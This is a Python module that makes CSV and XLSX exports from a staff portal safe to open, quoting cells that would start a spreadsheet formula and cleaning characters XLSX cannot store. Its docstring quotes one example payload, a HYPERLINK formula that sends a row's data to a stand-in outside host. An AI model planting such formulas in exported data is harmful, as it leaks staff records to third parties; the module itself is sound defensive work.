"""Cells for every CSV and XLSX the portal writes, made safe to open.

A spreadsheet program treats a cell that begins with `=`, `+`, `-` or `@`
(or a tab or carriage return before one of them) as a formula. Staff names,
policy titles and emails are typed by people inside the trust, so a name like
`=HYPERLINK("http://x.example/?leak="&B2,"Click me")` would become a live
link that sends the row to another site when HR opens the export. As OWASP
advises, such text is prefixed with a single quote, which Excel and LibreOffice
show as text. Real numbers and dates are left as they are.
"""

from __future__ import annotations

import datetime
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number written as text ("-3", "+44") is harmless and stays readable.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")  # ASCII digits: as the SQL guard (reports.exports)
# Control characters an XLSX file cannot hold (openpyxl refuses the whole file).
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# How a date cell shows in Excel and LibreOffice (a UK trust's day/month/year);
# the cell itself holds a date, so the column sorts and filters as dates.
XLSX_DATE_FORMAT = "dd/mm/yyyy"


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may show it: text that would start a
    formula gets a leading single quote; anything not text is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def safe_xlsx_row(row: Iterable[Any]) -> list[Any]:
    """As safe_row, and without the control characters XLSX cannot store.
    A quoted cell no longer begins with `=`, so openpyxl writes it as a
    string, never as a formula."""
    return [_NOT_IN_XLSX.sub("", cell) if isinstance(cell, str) else cell for cell in safe_row(row)]


def xlsx_cells(sheet, row: Iterable[Any]) -> list[Any]:
    """safe_xlsx_row for a write-only sheet, with each date (not datetime) a
    date cell shown dd/mm/yyyy rather than text Excel cannot sort or filter."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in safe_xlsx_row(row):
        if isinstance(value, datetime.date) and not isinstance(value, datetime.datetime):
            value = WriteOnlyCell(sheet, value=value)
            value.number_format = XLSX_DATE_FORMAT
        cells.append(value)
    return cells
